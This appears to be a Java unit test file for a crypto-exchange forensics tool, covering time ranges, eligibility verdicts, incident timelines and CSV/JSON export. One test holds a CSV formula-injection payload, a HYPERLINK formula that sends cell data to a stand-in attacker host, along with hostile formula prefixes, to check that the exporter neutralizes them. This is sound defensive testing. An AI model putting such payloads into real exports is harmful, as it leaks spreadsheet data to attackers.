package io.tourniquet.forensics;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import com.fasterxml.jackson.databind.JsonNode;
import io.tourniquet.forensics.Eligibility.ConditionCheck;
import io.tourniquet.forensics.Eligibility.Outcome;
import io.tourniquet.forensics.Timelines.TimelineEntry;
import io.tourniquet.forensics.Eligibility.Verdict;
import io.tourniquet.index.EcsDocuments;
import io.tourniquet.json.Json;
import io.tourniquet.model.EnrichedEvent;
import io.tourniquet.model.Event;
import io.tourniquet.testing.TestEvents;
import java.io.IOException;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The parts of {@link Forensics} that need no Elasticsearch: ranges, verdicts, settings, entries, CSV. */
class ForensicsTest {
    static final Instant T0 = Instant.ofEpochMilli(TestEvents.T0);

    @Test
    void rangesIntersectAndRefuseSinceAfterUntil() {
        TimeRange a = new TimeRange(T0, T0.plusSeconds(60));
        assertThat(a.intersect(new TimeRange(T0.plusSeconds(30), null)))
                .isEqualTo(new TimeRange(T0.plusSeconds(30), T0.plusSeconds(60)));
        assertThat(a.intersect(TimeRange.ALL)).isEqualTo(a);
        assertThat(a.intersect(new TimeRange(T0.plusSeconds(90), null)))
                .as("disjoint: empty at the later start").isEqualTo(new TimeRange(T0.plusSeconds(90), T0.plusSeconds(90)));
        assertThat(TimeRange.closed(T0, T0).until()).isEqualTo(T0.plusMillis(1));
        assertThat(TimeRange.ALL.unbounded()).isTrue();
        assertThat(TimeRange.ALL.query("@timestamp")).isNull();
        assertThatThrownBy(() -> new TimeRange(T0.plusSeconds(1), T0)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("--since");
    }

    @Test
    void anyFailingConditionMakesAUserNotEligibleAndAnyUndecidedOneNeedsReview() {
        ConditionCheck pass = new ConditionCheck("a", Outcome.PASS, "");
        ConditionCheck review = new ConditionCheck("b", Outcome.REVIEW, "");
        ConditionCheck fail = new ConditionCheck("c", Outcome.FAIL, "");
        assertThat(Eligibility.verdict(List.of(pass, pass, pass))).isEqualTo(Verdict.ELIGIBLE);
        assertThat(Eligibility.verdict(List.of(pass, review, pass))).isEqualTo(Verdict.NEEDS_MANUAL_REVIEW);
        assertThat(Eligibility.verdict(List.of(review, fail, pass))).isEqualTo(Verdict.NOT_ELIGIBLE);
    }

    @Test
    void mfaTypesAreCheckedAgainstThePolicyFields() {
        assertThat(Eligibility.mfaTypes(" withdrawal, login ,withdrawal")).containsExactly("withdrawal", "login");
        assertThatThrownBy(() -> Eligibility.mfaTypes("withdrawal,trading")).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("trading").hasMessageContaining("forensics.app.mfa-types");
    }

    private static JsonNode doc(EnrichedEvent e) throws IOException {
        return Json.MAPPER.readTree(EcsDocuments.event(e, "tourniquet-events").source);
    }

    @Test
    void timelineEntriesOfIndexedEventsNameWhatAnAnalystLooksFor() throws IOException {
        Event login = TestEvents.login("e1", "u1", TestEvents.T0);
        login.ip = "203.0.113.7";
        login.deviceId = "dev-1";
        login.deviceJailbroken = true;
        TimelineEntry l = Timelines.eventEntry(doc(EnrichedEvent.of(login)));
        assertThat(l.time()).isEqualTo(T0);
        assertThat(l.kind()).isEqualTo("login");
        assertThat(l.ip()).isEqualTo("203.0.113.7");
        assertThat(l.jailbroken()).isTrue();
        assertThat(l.detail()).isEqualTo("success from 203.0.113.7 device dev-1 JAILBROKEN auth=password");

        EnrichedEvent approval = EnrichedEvent.of(TestEvents.approval("e2", "u1", "w1", null, TestEvents.T0 + 1000));
        approval.mfaAuthorized = false;
        approval.incidentId = "inc-1";
        TimelineEntry a = Timelines.eventEntry(doc(approval));
        assertThat(a.kind()).isEqualTo("withdrawal_approved");
        assertThat(a.status()).isEqualTo("approved");
        assertThat(a.amount()).isEqualTo("1.25000000");
        assertThat(a.mfaAuthorized()).isFalse();
        assertThat(a.incidentId()).isEqualTo("inc-1");
        assertThat(a.detail()).isEqualTo("w1 approved 1.25000000 BTC to=bc1qattacker by=withdrawal-approver 2.14.0-rc1 "
                + "channel=internal 2fa=NOT VERIFIED ip=203.0.113.7 incident=inc-1");

        TimelineEntry wl = Timelines.eventEntry(doc(EnrichedEvent.of(
                TestEvents.whitelistAdded("e3", "u1", "bc1qnew", TestEvents.T0))));
        assertThat(wl.kind()).isEqualTo("whitelist_address_added");
        assertThat(wl.detail()).isEqualTo("address=bc1qnew asset=BTC ip=203.0.113.7");
    }

    @Test
    void csvRowsFollowTheHeaderAndQuoteWhatNeedsIt() throws IOException {
        EnrichedEvent approval = EnrichedEvent.of(TestEvents.approval("e2", "u1", "w1", null, TestEvents.T0));
        approval.mfaAuthorized = false;
        approval.alertIds = List.of("a1", "a2");
        approval.event.userAgent = "ignored on withdrawals";
        String row = EventCsv.row(doc(approval));
        List<String> cells = List.of(row.split(",", -1));
        assertThat(cells).hasSize(EventCsv.COLUMNS.size());
        assertThat(cells.get(EventCsv.COLUMNS.indexOf("exchange.withdrawal.amount"))).isEqualTo("1.25000000");
        assertThat(cells.get(EventCsv.COLUMNS.indexOf("exchange.mfa.authorized"))).isEqualTo("false");
        assertThat(cells.get(EventCsv.COLUMNS.indexOf("exchange.alert_ids"))).isEqualTo("a1;a2");
        assertThat(cells.get(EventCsv.COLUMNS.indexOf("@timestamp"))).isEqualTo("2022-01-17T10:00:00.000Z");
        assertThat(EventCsv.quote("Mozilla/5.0 (X11, Linux)")).isEqualTo("\"Mozilla/5.0 (X11, Linux)\"");
        assertThat(EventCsv.quote("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(EventCsv.quote("plain")).isEqualTo("plain");
    }

    @Test
    void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralized() throws IOException {
        EnrichedEvent login = EnrichedEvent.of(TestEvents.login("e3", "u1", TestEvents.T0));
        login.event.userAgent = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
        login.event.deviceId = "@SUM(1+1)";
        String row = EventCsv.row(doc(login));
        assertThat(row).contains("\"'=HYPERLINK(").contains("'@SUM(1+1)").doesNotContain(",=").doesNotContain(",@");
        for (String hostile : List.of("=1+1", "+1", "-1", "@x", "\tx", "\rx")) {
            assertThat(EventCsv.neutralize(hostile)).as(hostile).startsWith("'");
        }
        assertThat(EventCsv.neutralize("0xabc")).isEqualTo("0xabc");
        assertThat(EventCsv.neutralize("")).isEmpty();
    }

    @Test
    void jsonAnswersUseSnakeCaseAndRfc3339Times() throws IOException {
        var group = new RootCauses.BackendGroup("withdrawal-approver", "2.14.0-rc1", 12, 12, T0, T0.plusMillis(1500));
        JsonNode json = Json.MAPPER.readTree(ForensicsJson.write(group));
        assertThat(json.path("first_seen").asText()).isEqualTo("2022-01-17T10:00:00.000Z");
        assertThat(json.path("last_seen").asText()).isEqualTo("2022-01-17T10:00:01.500Z");
        assertThat(json.path("approvals").asLong()).isEqualTo(12);
    }
}
